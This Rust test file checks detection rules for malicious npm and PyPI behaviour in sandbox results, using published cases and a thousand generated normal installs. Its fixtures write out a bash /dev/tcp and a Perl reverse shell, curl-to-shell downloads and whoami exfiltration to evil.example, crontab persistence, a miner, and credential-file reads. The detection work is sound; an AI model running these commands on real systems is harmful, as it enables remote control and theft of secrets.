//! Results of Package Analysis: what the shipped rules make of malice that was published, and of a thousand normal installs.

use std::collections::BTreeSet;

use intake::{Baseline, Document, Reading, Verdicts};
use osv_schema::{Document as Json, Value, write};
use proptest::prelude::*;
use testkit::Folder;

use crate::program::{names, read, refused, source};

/// What one phase of a run did.
#[derive(Clone, Default)]
pub(crate) struct Did {
    phase: &'static str,
    commands: Vec<String>,
    hosts: Vec<String>,
    sockets: Vec<(String, u64)>,
    reads: Vec<String>,
    writes: Vec<String>,
}

pub(crate) fn did(phase: &'static str) -> Did {
    Did { phase, ..Did::default() }
}

impl Did {
    fn runs(mut self, command: &str) -> Did {
        self.commands.push(command.into());
        self
    }

    fn asks(mut self, host: &str) -> Did {
        self.hosts.push(host.into());
        self
    }

    pub(crate) fn connects(mut self, address: &str, port: u64) -> Did {
        self.sockets.push((address.into(), port));
        self
    }

    fn reads(mut self, path: &str) -> Did {
        self.reads.push(path.into());
        self
    }

    fn writes(mut self, path: &str) -> Did {
        self.writes.push(path.into());
        self
    }

    fn json(&self) -> String {
        let text = |text: &str| write::compact(&Value::from(text));
        let many = |items: Vec<String>| items.join(", ");
        let command = |line: &String| {
            format!(
                r#"{{"Command": [{}], "Environment": ["HOME=/root", "SECRET=hunter2"]}}"#,
                many(line.split("␣").map(text).collect())
            )
        };
        let file = |path: &String, write: bool| {
            format!(r#"{{"Path": {}, "Read": {}, "Write": {write}, "Delete": false}}"#, text(path), !write)
        };
        let files =
            self.reads.iter().map(|path| file(path, false)).chain(self.writes.iter().map(|path| file(path, true)));
        let socket =
            |(address, port): &(String, u64)| format!(r#"{{"Address": "{address}", "Port": {port}, "Hostnames": []}}"#);
        let named =
            |host: &String| format!(r#"{{"Address": "93.184.216.34", "Port": 443, "Hostnames": [{}]}}"#, text(host));
        let sockets = self.sockets.iter().map(socket).chain(self.hosts.iter().map(named));
        let query = |host: &String| format!(r#"{{"Hostname": {}, "Types": ["A", "AAAA"]}}"#, text(host));
        format!(
            r#"{}: {{"Status": "completed", "Stdout": "", "Stderr": "aGk=", "Files": [{}], "Sockets": [{}], "Commands": [{}],
               "DNS": [{{"Class": "IN", "Queries": [{}]}}]}}"#,
            text(self.phase),
            many(files.collect()),
            many(sockets.collect()),
            many(self.commands.iter().map(command).collect()),
            many(self.hosts.iter().map(query).collect())
        )
    }
}

pub(crate) fn result(ecosystem: &str, name: &str, version: &str, phases: &[Did]) -> String {
    let phases: Vec<String> = phases.iter().map(Did::json).collect();
    format!(
        r#"{{"Package": {{"Ecosystem": "{ecosystem}", "Name": "{name}", "Version": "{version}"}}, "CreatedTimestamp": 1760000000,
           "Analysis": {{{}}}}}"#,
        phases.join(", ")
    )
}

pub(crate) fn reading(files: &[(&str, &str)]) -> Reading {
    let folder = Folder::empty();
    files.iter().for_each(|(name, content)| folder.write(name, content));
    read(&source("package-analysis", &[]), folder.path()).expect("it works here")
}

/// The names of the rules that a result meets.
#[track_caller]
pub(crate) fn met(content: &str) -> BTreeSet<String> {
    let reading = reading(&[("r.json", content)]);
    assert_eq!(refused(&reading), [], "{content}");
    let details = reading.taken.deliveries.first().and_then(|delivery| delivery.record.details.as_str());
    let rules = details.unwrap_or_default().split("(rule ").skip(1).filter_map(|rest| rest.split(',').next());
    rules.map(str::to_owned).collect()
}

/// Each rule with something that it is for, and with something alike that is none of it.
#[test]
fn each_rule_finds_what_it_is_for_and_not_what_is_alike() {
    let (install, import) = (|| did("install"), || did("import"));
    let table: Vec<(&str, &str, Did, &str, Did)> = vec![
        (
            "reverse-shell",
            "1.0.0",
            install().runs("bash␣-c␣bash -i >& /dev/tcp/45.9.1.1/4444 0>&1"),
            "1.0.0",
            install().runs("bash␣-c␣ls /dev"),
        ),
        (
            "bare-address-on-an-odd-port",
            "1.0.0",
            import().connects("45.9.1.1", 4444),
            "1.0.0",
            import().connects("10.0.0.7", 4444),
        ),
        (
            "runs-a-shell-beside-a-bare-address",
            "1.0.0",
            import().connects("45.9.1.1", 443).runs("/bin/sh␣-i"),
            "1.0.0",
            import().runs("/bin/sh␣-i"),
        ),
        (
            "probe-with-an-implausible-version",
            "99.10.9",
            install().asks("abc.burpcollaborator.net"),
            "99.10.9",
            install().asks("registry.npmjs.org"),
        ),
        (
            "request-collector",
            "1.0.0",
            install().asks("eo1x.m.pipedream.net"),
            "1.0.0",
            install().asks("pipedream.example.com"),
        ),
        (
            "shared-request-collector",
            "1.0.0",
            install().asks("webhook.site"),
            "1.0.0",
            install().asks("site.webhooks.io"),
        ),
        (
            "chat-after-address-lookup",
            "1.0.0",
            import().asks("api.ipify.org").asks("discord.com"),
            "1.0.0",
            import().asks("api.ipify.org"),
        ),
        (
            "chat-webhook-at-install",
            "1.0.0",
            install().asks("api.telegram.org"),
            "1.0.0",
            import().asks("api.telegram.org"),
        ),
        ("chat-at-import", "1.0.0", import().asks("discord.com"), "1.0.0", did("execute").asks("discord.com")),
        (
            "token-database",
            "1.0.0",
            import().reads("/root/.config/discord/Local Storage/leveldb/000005.ldb"),
            "1.0.0",
            import().reads("/root/.config/app/settings.json"),
        ),
        (
            "credentials-and-an-unknown-host",
            "1.0.0",
            import().reads("/root/.aws/credentials").asks("collect.evil.example"),
            "1.0.0",
            import().reads("/root/.aws/credentials").asks("github.com"),
        ),
        (
            "cloud-metadata",
            "1.0.0",
            import().runs("curl␣http://169.254.169.254/latest/meta-data/"),
            "1.0.0",
            import().runs("curl␣http://example.org/"),
        ),
        (
            "download-and-run",
            "1.0.0",
            install().runs("sh␣-c␣curl http://evil.example/x | sh").asks("evil.example"),
            "1.0.0",
            install().runs("sh␣-c␣curl https://sh.rustup.rs | sh").asks("sh.rustup.rs"),
        ),
        (
            "encoded-command",
            "1.0.0",
            install().runs("sh␣-c␣echo aGk= | base64 -d | sh"),
            "1.0.0",
            install().runs("base64␣-d␣logo.b64"),
        ),
        (
            "sends-with-a-downloader",
            "1.0.0",
            install().runs("sh␣-c␣curl -d \"$(whoami)\" http://evil.example").asks("evil.example"),
            "1.0.0",
            install().runs("curl␣-L␣https://github.com/x").asks("github.com"),
        ),
        (
            "told-over-dns",
            "1.0.0",
            install().asks("4d7920686f73746e616d65206973206275696c6465722d31.evil.example"),
            "1.0.0",
            install().asks("cdn.example.org"),
        ),
        (
            "asks-a-hosting-platform",
            "1.0.0",
            import().asks("lively-brook-1.herokuapp.com"),
            "1.0.0",
            did("execute").asks("lively-brook-1.herokuapp.com"),
        ),
        ("tunnel", "1.0.0", import().asks("8f2a.ngrok.io"), "1.0.0", import().asks("ngrok.example.org")),
        ("paste-site", "1.0.0", install().asks("pastebin.com"), "1.0.0", install().asks("bin.example.org")),
        ("start-up-file", "1.0.0", install().writes("/root/.bashrc"), "1.0.0", install().reads("/root/.bashrc")),
        (
            "scheduled-task",
            "1.0.0",
            install().runs("sh␣-c␣echo x | crontab -"),
            "1.0.0",
            install().runs("ls␣/var/spool/crontabs"),
        ),
        (
            "agent-instructions",
            "1.0.0",
            install().writes("/root/.claude/CLAUDE.md"),
            "1.0.0",
            install().writes("/app/node_modules/x/CLAUDE.md"),
        ),
        (
            "miner",
            "1.0.0",
            import().runs("/tmp/xmrig␣-o␣stratum+tcp://pool.example:3333"),
            "1.0.0",
            import().runs("node␣index.js"),
        ),
        ("mining-pool", "1.0.0", import().asks("pool.minexmr.com"), "1.0.0", import().asks("pool.ntp.org")),
    ];
    for (rule, bad_version, bad, good_version, good) in &table {
        let found = met(&result("npm", "x", bad_version, std::slice::from_ref(bad)));
        assert!(found.contains(*rule), "{rule} does not find it: {found:?}");
        let found = met(&result("npm", "x", good_version, std::slice::from_ref(good)));
        assert!(!found.contains(*rule), "{rule} finds what is clean");
    }
    let rules = include_str!("../../../../config/package-analysis.toml");
    let declared: BTreeSet<&str> =
        rules.lines().filter_map(|line| line.strip_prefix("name = \"")?.strip_suffix('"')).collect();
    assert_eq!(declared, table.iter().map(|row| row.0).collect(), "each rule has its examples");
}

/// The cases that Package Analysis published, as far as it told what it saw, and their likes: each with a rule that finds it.
#[test]
fn the_published_cases_are_found() {
    let (install, import) = (|| did("install"), || did("import"));
    let perl = "sh␣-c␣perl -e 'use Socket;$i=\"45.9.1.1\";$p=443;connect(S,sockaddr_in($p,inet_aton($i)));exec(\"/bin/sh -i\");'";
    let cases: Vec<(&str, &str, &str, Vec<Did>, &str)> = vec![
        // Fetches a backdoor, patches a chat client, and sends the tokens it finds to that client's own interface.
        (
            "pypi",
            "discordcmd",
            "0.0.2",
            vec![
                install().asks("pypi.org"),
                import()
                    .asks("raw.githubusercontent.com")
                    .asks("ipinfo.io")
                    .asks("discord.com")
                    .reads("/root/.config/discord/Local Storage/leveldb/000003.log"),
            ],
            "chat-after-address-lookup",
        ),
        // The same from npm; all that was seen are calls to the chat's interface.
        (
            "npm",
            "colorsss",
            "0.0.2",
            vec![install().asks("registry.npmjs.org"), import().asks("discord.com")],
            "chat-at-import",
        ),
        // Tells who it is, and opens a shell, by an address without a name.
        (
            "npm",
            "@roku-web-core/ajax",
            "1.100000000000003.100000000000003",
            vec![install().runs("node␣index.js").runs(perl).connects("45.9.1.1", 443)],
            "reverse-shell",
        ),
        (
            "npm",
            "@roku-web-core/ajax",
            "1.100000000000003.100000000000003",
            vec![install().runs("node␣index.js").connects("45.9.1.1", 4242)],
            "bare-address-on-an-odd-port",
        ),
        // Opens a shell when one of its modules is imported.
        (
            "pypi",
            "secrevthree",
            "0.0.2",
            vec![install().runs("python␣setup.py␣install"), import().connects("194.5.3.2", 443).runs("/bin/sh␣-i")],
            "runs-a-shell-beside-a-bare-address",
        ),
        // Asks a server on a hosting platform for a command.
        (
            "npm",
            "random-vouchercode-generator",
            "1.0.3",
            vec![
                install().asks("registry.npmjs.org"),
                import().asks("quiet-lake-77.herokuapp.com").runs("sh␣-c␣pm2 stop all"),
            ],
            "asks-a-hosting-platform",
        ),
        // Post the host's and the user's name to collectors, in versions of dependency confusion or of none.
        (
            "npm",
            "@corp/core-lib",
            "5.0.0",
            vec![install().runs("node␣preinstall.js").runs("whoami").asks("x7q.burpcollaborator.net")],
            "request-collector",
        ),
        (
            "npm",
            "corp-internal-ui",
            "99.10.9",
            vec![install().runs("node␣index.js").asks("eoabc.m.pipedream.net")],
            "probe-with-an-implausible-version",
        ),
        (
            "pypi",
            "corp-tools",
            "99.0.0",
            vec![install().runs("sh␣-c␣ping c9.interact.sh").asks("c9.interact.sh")],
            "probe-with-an-implausible-version",
        ),
    ];
    for (ecosystem, name, version, phases, rule) in &cases {
        let found = met(&result(ecosystem, name, version, phases));
        assert!(found.contains(*rule), "{name} is not found by {rule}: {found:?}");
    }
    let (ecosystem, name, version, phases, _) = &cases[7];
    let kinds = reading(&[("a.json", &result(ecosystem, name, version, phases))]);
    assert!(write::compact(&kinds.taken.deliveries[0].record).contains(r#""kind":"dependency-confusion""#));
}

/// One of many normal installs: what package managers and builds do, with the package's own names in it.
fn normal(number: usize) -> String {
    let pick = |salt: usize, from: &[&'static str]| from[(number / 3 * 7 + salt * 13 + number % 5) % from.len()];
    let year = if number.is_multiple_of(50) { 2024 } else { number % 30 };
    let (name, version) = (format!("honest-{number}"), format!("{year}.{}.{}", number % 7, number % 11));
    let tmp = format!("/tmp/pip-install-{number:06x}/{name}");
    let base = |did: Did| {
        let did = did
            .reads("/etc/ssl/certs/ca-certificates.crt")
            .reads("/usr/lib/locale/C.UTF-8/LC_CTYPE")
            .reads("/proc/self/status");
        did.connects("127.0.0.1", 40_000 + number as u64)
            .connects("10.0.0.2", 53)
            .connects("", 0)
            .asks("kubernetes.cluster.local")
    };
    // Every tenth is of another registry.
    if number.is_multiple_of(10) {
        let (ecosystem, command, host, build) = [
            ("rubygems", "gem␣install", "index.rubygems.org", "make␣install"),
            ("packagist", "composer␣require", "repo.packagist.org", "git␣clone␣--mirror"),
            ("crates.io", "cargo␣add", "static.crates.io", "rustc␣--crate-name"),
        ][number / 10 % 3];
        let install = base(did("install")).runs(&format!("{command}␣{name}")).runs(build).asks(host).asks("github.com");
        return result(ecosystem, &name, &version, &[install, base(did("import"))]);
    }
    if number.is_multiple_of(2) {
        let install = base(did("install"))
            .runs(&format!("node␣/usr/local/bin/npm␣install␣{name}@{version}"))
            .runs(pick(
                1,
                &[
                    "node␣install.js",
                    "sh␣-c␣node-gyp rebuild",
                    "node␣postinstall.js",
                    "make␣BUILDTYPE=Release",
                    "sh␣-c␣prebuild-install || node-gyp rebuild",
                    "sh␣-c␣husky install",
                    "curl␣-fsSL␣https://github.com/x/y/releases/download/v1/y.tar.gz␣-o␣/tmp/y.tar.gz",
                    "sh␣-c␣node ./dist/cli.js --version || true",
                    "git␣config␣core.hooksPath␣.husky",
                ],
            ))
            .asks("registry.npmjs.org")
            .asks(pick(
                2,
                &[
                    "github.com",
                    "nodejs.org",
                    "opencollective.com",
                    "objects.githubusercontent.com",
                    "registry.npmjs.org",
                    "binaries.prisma.sh",
                    "cdn.playwright.dev",
                    "download.cypress.io",
                    "downloads.sentry-cdn.com",
                    "storage.googleapis.com",
                    "telemetry.vendor.example",
                ],
            ))
            .reads("/root/.npmrc")
            .reads(pick(4, &["/app/package.json", "/root/.gitconfig", "/etc/hosts", "/root/.yarnrc"]))
            .writes(&format!("/app/node_modules/{name}/index.js"))
            .writes("/root/.npm/_cacache/tmp/1")
            .writes(pick(
                3,
                &["/tmp/v8-compile-cache/x", "/root/.cache/node-gyp/20/include", "/app/package-lock.json"],
            ));
        return result(
            "npm",
            &name,
            &version,
            &[install, base(did("import")).runs("node␣/usr/local/bin/analyze-node.js")],
        );
    }
    let install = base(did("install"))
        .runs(&format!("pip3␣install␣{name}=={version}"))
        .runs(&format!("/usr/bin/python3␣-c␣import setuptools; __file__='{tmp}/setup.py'"))
        .runs(pick(
            1,
            &[
                "gcc␣-pthread␣-c␣x.c",
                "cmake␣--build␣.",
                "git␣--version",
                "lsb_release␣-a",
                "sh␣-c␣/sbin/ldconfig -p 2>/dev/null",
            ],
        ))
        .asks("pypi.org")
        .asks(pick(
            2,
            &[
                "files.pythonhosted.org",
                "github.com",
                "raw.githubusercontent.com",
                "pypi.org",
                "download.pytorch.org",
                "huggingface.co",
            ],
        ))
        .writes(&format!("{tmp}/build/lib/x.so"))
        .writes("/root/.cache/pip/wheels/x");
    // Libraries that ask for something read `.netrc`, as the one that nearly all of them use does.
    let import = base(did("import"))
        .runs("python3␣/usr/local/bin/analyze-python.py")
        .asks(pick(4, &["pypi.org", "huggingface.co", "raw.githubusercontent.com", "updates.vendor.example"]))
        .reads(pick(3, &["/root/.config/matplotlib/matplotlibrc", "/root/.netrc", "/etc/passwd"]));
    result("pypi", &name, &version, &[install, import])
}

#[test]
fn a_thousand_normal_installs_leave_no_trace() {
    let lines: Vec<String> = (0..1000).map(|number| normal(number).replace('\n', " ")).collect();
    let reading = reading(&[("all.jsonl", &lines.join("\n"))]);
    assert_eq!((names(&reading), refused(&reading)), (vec![], vec![]));
    assert_eq!(reading.taken.left_out, 1000);
}

#[test]
fn a_report_has_its_evidence_its_indicators_and_nothing_to_click_on() {
    let evil = did("install")
        .runs("sh␣-c␣curl -d `id`\u{1b}[31m http://evil.example/?x | sh")
        .asks("evil.example")
        .asks("discord.com");
    let reading = reading(&[("npm/@s/x/1.0.0.json", &result("npm", "@s/x", "1.0.0", &[evil]))]);
    let delivery = &reading.taken.deliveries[0];
    assert_eq!(delivery.own_id(), Some("npm/@s/x@1.0.0"));
    let record = &delivery.record;
    assert_eq!(record.modified.as_str(), Some("2025-10-09T08:53:20Z"));
    assert_eq!(record.affected.items()[0].versions.items(), ["1.0.0"]);
    let text = write::compact(record);
    assert!(
        text.contains(r#"{"role":"contacted","type":"domain","value":"evil.example","versions":["1.0.0"]}"#),
        "{text}"
    );
    assert!(!text.contains(r#""value":"discord.com""#), "a site that everybody uses is no indicator: {text}");
    let details = record.details.as_str().unwrap();
    assert!(!details.contains("http://") && !details.contains('\u{1b}') && !details.contains("hunter2"), "{details}");
}

#[test]
fn the_other_results_are_left_out() {
    let about = r#""Package": {"Ecosystem": "npm", "Name": "x", "Version": "1"}, "CreatedTimestamp": 1760000000"#;
    let statically =
        r#"{"schema_version": "1.0", "ecosystem": "npm", "name": "x", "version": "1", "results": {"files": []}}"#;
    let log = format!(r#"{{{about}, "Analysis": "+ npm install"}}"#);
    let written = format!(r#"{{{about}, "Analysis": {{"install": [{{"Path": "/a", "WriteInfo": []}}]}}}}"#);
    let bare = format!(
        r#"{{{about}, "Analysis": {{"import": {{"Status": "error_timeout", "Files": null, "Commands": null}}}}}}"#
    );
    let files =
        [("a.json", statically), ("b.json", log.as_str()), ("c.json", written.as_str()), ("d.json", bare.as_str())];
    let reading = reading(&files);
    assert_eq!((names(&reading).len(), refused(&reading), reading.taken.left_out), (0, vec![], 4));
}

#[test]
fn rules_that_cannot_be_read_say_where() {
    let check = |text: &str, expected: &str| {
        let error = Verdicts::parse(Some(text), None).expect_err(text).to_string();
        assert!(error.starts_with("config/package-analysis.toml: ") && error.contains(expected), "{error}");
    };
    let rule = "[[rule]]\nname = \"a\"\nkind = \"malware\"\ntechnique = \"t\"\nsays = \"s\"\n";
    check(&format!("{rule}all = [{{ hots = [\"x\"] }}]"), "line 6: unknown field `hots`");
    check(&format!("{rule}all = []"), "has a condition that everything meets");
    check(&format!("{rule}all = [{{ }}]"), "has a condition that everything meets");
    check(&format!("{rule}all = [{{ host-unknown = true }}]\nphases = [\"build\"]"), "no phase `build`");
    check(
        &format!("{0}all = [{{ host-unknown = true }}]\n{0}all = [{{ port-odd = true }}]", rule),
        "two rules have the name `a`",
    );
    check(&rule.replace("\"malware\"", "\"bad\""), "missing field `all`");
    assert!(Verdicts::parse(None, Some("[npm]\nresults = 1\nhosts = [1]")).is_err());
}

#[test]
fn what_is_frequent_is_normal() {
    let mut counted = Baseline::default();
    for number in 0..40 {
        let did = did("install").runs("tool␣x").asks("metrics.vendor.example");
        let content = result("npm", &format!("p{number}"), "1.0.0", &[did.asks(&format!("h{number}.example"))]);
        counted.count(&Document { name: "r.json".into(), bytes: Ok(content.into_bytes()) });
    }
    counted.count(&Document { name: "x.json".into(), bytes: Ok(b"{".to_vec()) });
    assert_eq!((counted.results(), counted.left_out), (40, 1));
    let list = counted.to_toml();
    assert!(
        list.contains("[\"npm\"]\nresults = 40\nhosts = [\"metrics.vendor.example\"]\nprograms = [\"tool\"]\n"),
        "{list}"
    );
    let rules = "[[rule]]\nname = \"a\"\nkind = \"malware\"\ntechnique = \"t\"\nsays = \"s\"\nall = [{ host-unknown = true }]\n";
    let folder = Folder::empty();
    folder.write("r.json", result("npm", "p", "1.0.0", &[did("install").asks("metrics.vendor.example")]));
    for (frequent, found) in [(None, 1), (Some(list.as_str()), 0)] {
        let mut source = source("package-analysis", &[]);
        source.judge_by(Verdicts::parse(Some(rules), frequent).expect("rules"));
        assert_eq!(names(&read(&source, folder.path()).expect("it works here")).len(), found);
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn bytes_of_a_result_that_are_lost_or_changed_are_told(
        at in any::<prop::sample::Index>(), length in 0_usize..40, byte in any::<u8>(), number in 0_usize..500,
    ) {
        let bytes = crate::damaged::damaged(&normal(number), at, length, byte);
        let taken = crate::damaged::taken("package-analysis", "r.json", &bytes);
        // Another byte may make another address of it, which is no longer normal.
        prop_assert_eq!(taken.deliveries.len() + taken.refused.len() + taken.left_out, 1);
        if Json::parse(&bytes).is_err() {
            let told: Vec<&str> = taken.refused.iter().map(|one| one.rejected.message.as_str()).collect();
            prop_assert!(told.len() == 1 && told[0].starts_with("line "), "{:?}", told);
        }
        let is_told = |one: &intake::Refused| !one.rejected.message.is_empty() && !one.rejected.remedy.is_empty();
        prop_assert!(taken.refused.iter().all(is_told));
    }

    #[test]
    fn a_damaged_result_is_refused_where_it_is_damaged(place in any::<prop::sample::Index>(), type_of in 0_u8..2, number in 0_usize..500) {
        const PLACES: [&str; 12] = [
            "Package", "Package/Name", "Package/Version", "Package/Ecosystem", "CreatedTimestamp", "Analysis/install",
            "Analysis/install/Files/0/Path", "Analysis/install/Files/0/Read", "Analysis/install/Sockets/0/Address",
            "Analysis/install/Commands/0/Command", "Analysis/install/DNS/0/Queries/0/Hostname", "Analysis/install/DNS",
        ];
        let pointer = format!("/{}", place.get(&PLACES));
        let mut value = Value::from(Json::parse(normal(number).as_bytes()).expect("JSON").root());
        crate::damaged::put(&mut value, &pointer, crate::damaged::wrong(if type_of == 0 { 1 } else { 4 }));
        let reading = reading(&[("r.json", &write::compact(&value))]);
        let told: Vec<&str> = reading.taken.refused.iter().map(|one| one.rejected.pointer.as_str()).collect();
        prop_assert_eq!(told, vec![pointer.as_str()]);
    }
}
